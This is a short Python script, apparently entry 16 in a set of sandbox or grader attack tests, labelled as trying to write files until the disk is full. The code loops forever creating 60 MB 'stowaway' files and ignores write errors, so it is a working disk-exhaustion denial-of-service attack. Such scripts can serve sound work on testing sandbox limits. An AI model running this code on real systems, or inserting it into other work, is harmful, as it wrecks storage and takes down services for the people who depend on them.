# attack: 16 | earns: nothing | tries: write files until the disk is full
import itertools

for _number in itertools.count():
    try:
        with open(f"stowaway{_number}", "wb") as _file:
            for _ in range(60):
                _file.write(b"x" * 2**20)
    except OSError:
        continue
